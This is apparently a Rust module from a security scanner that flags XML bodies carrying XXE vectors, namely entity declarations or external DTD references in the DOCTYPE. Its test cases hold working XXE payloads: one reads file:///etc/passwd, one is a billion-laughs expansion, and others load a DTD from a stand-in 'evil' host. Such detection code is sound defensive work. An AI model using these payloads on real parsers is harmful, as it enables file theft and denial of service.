//! XML external entities in XML bodies: a DOCTYPE that declares entities (XXE, entity
//! expansion such as the billion laughs) or refers to an external DTD (`SYSTEM`/`PUBLIC`),
//! which a parser fetches or expands when it reads the document. Values that are not bodies
//! are covered by the `xxe` pattern of `rules.rs` (entity declarations only: an XHTML page in
//! a JSON value may carry a `PUBLIC` doctype).
//!
//! The DOCTYPE is looked for in the prolog (before the root element), in UTF-8 or, after a
//! byte-order mark, UTF-16. The `format` check judges whether the rest is well-formed.

/// Longest prolog looked at for a DOCTYPE.
const MAX_PROLOG: usize = 64 * 1024;

/// Why the XML document `body` is an XXE vector, if it is: `xml entity declaration` or
/// `xml external dtd`, with the DOCTYPE's text.
pub(super) fn problem(body: &[u8]) -> Option<(&'static str, String)> {
    let text: std::borrow::Cow<'_, str> = match body {
        [0xFF, 0xFE, rest @ ..] => utf16(rest, u16::from_le_bytes).into(),
        [0xFE, 0xFF, rest @ ..] => utf16(rest, u16::from_be_bytes).into(),
        _ => String::from_utf8_lossy(&body[..body.len().min(MAX_PROLOG)]),
    };
    let b = text.as_bytes();
    let start = doctype_start(b)?;
    let decl = doctype_text(&b[start..]);
    let reason = doctype_problem(decl)?;
    Some((reason, String::from_utf8_lossy(decl).into_owned()))
}

/// The prolog of a UTF-16 document, decoded.
fn utf16(rest: &[u8], read: fn([u8; 2]) -> u16) -> String {
    let units = rest
        .chunks_exact(2)
        .take(MAX_PROLOG / 2)
        .map(|c| read([c[0], c[1]]));
    char::decode_utf16(units)
        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect()
}

/// Where `<!DOCTYPE` starts, if it comes before the root element.
fn doctype_start(b: &[u8]) -> Option<usize> {
    let mut i = 0;
    while let Some(o) = memchr::memchr(b'<', b.get(i..)?) {
        let at = i + o;
        match b.get(at + 1) {
            Some(b'!')
                if b.get(at + 2..at + 9)
                    .is_some_and(|w| w.eq_ignore_ascii_case(b"doctype")) =>
            {
                return Some(at);
            }
            // A comment or a processing instruction: skip it.
            Some(b'!' | b'?') => i = at + 2,
            // The root element: no DOCTYPE may follow.
            Some(c) if c.is_ascii_alphabetic() => return None,
            _ => i = at + 1,
        }
    }
    None
}

/// The DOCTYPE declaration from its `<!` to its closing `>` (outside quotes and the internal
/// subset `[…]`), or to the end.
fn doctype_text(b: &[u8]) -> &[u8] {
    let (mut quote, mut depth) = (None, 0usize);
    for (i, &c) in b.iter().enumerate().skip(2) {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, b'"' | b'\'') => quote = Some(c),
            (None, b'[') => depth += 1,
            (None, b']') => depth = depth.saturating_sub(1),
            (None, b'>') if depth == 0 => return &b[..=i],
            _ => {}
        }
    }
    b
}

/// `xml entity declaration` or `xml external dtd` for a DOCTYPE declaration.
fn doctype_problem(d: &[u8]) -> Option<&'static str> {
    let lower = d.to_ascii_lowercase();
    if lower.windows(8).any(|w| w == b"<!entity") {
        return Some("xml entity declaration");
    }
    // `<!DOCTYPE root SYSTEM "uri">` or `root PUBLIC "id" "uri"`, before any internal subset.
    let head = lower.split(|c| *c == b'[').next().unwrap_or_default();
    let mut words = head
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .skip(2);
    matches!(words.next(), Some(b"system" | b"public")).then_some("xml external dtd")
}

#[cfg(test)]
mod tests {
    use super::problem;

    #[test]
    fn doctypes() {
        let cases: &[(&str, Option<&str>)] = &[
            (
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
                Some("xml entity declaration"),
            ),
            (
                "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>",
                Some("xml entity declaration"),
            ),
            (
                "<!-- c --><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><r/>",
                Some("xml entity declaration"),
            ),
            (
                "<!DOCTYPE r SYSTEM \"http://evil/x.dtd\"><r/>",
                Some("xml external dtd"),
            ),
            (
                "<?xml version=\"1.0\"?>\n<!doctype r public \"-//x//EN\" \"http://evil/x.dtd\"><r/>",
                Some("xml external dtd"),
            ),
            ("<!DOCTYPE r><r/>", None),
            ("<r><!DOCTYPE x SYSTEM \"y\"></r>", None),
            ("<a>x</a>", None),
            ("<r a=\"<!ENTITY\"/>", None),
        ];
        for (doc, want) in cases {
            assert_eq!(problem(doc.as_bytes()).map(|p| p.0), *want, "{doc}");
        }
        let utf16: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain(
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes),
            )
            .collect();
        assert_eq!(problem(&utf16).map(|p| p.0), Some("xml entity declaration"));
    }
}
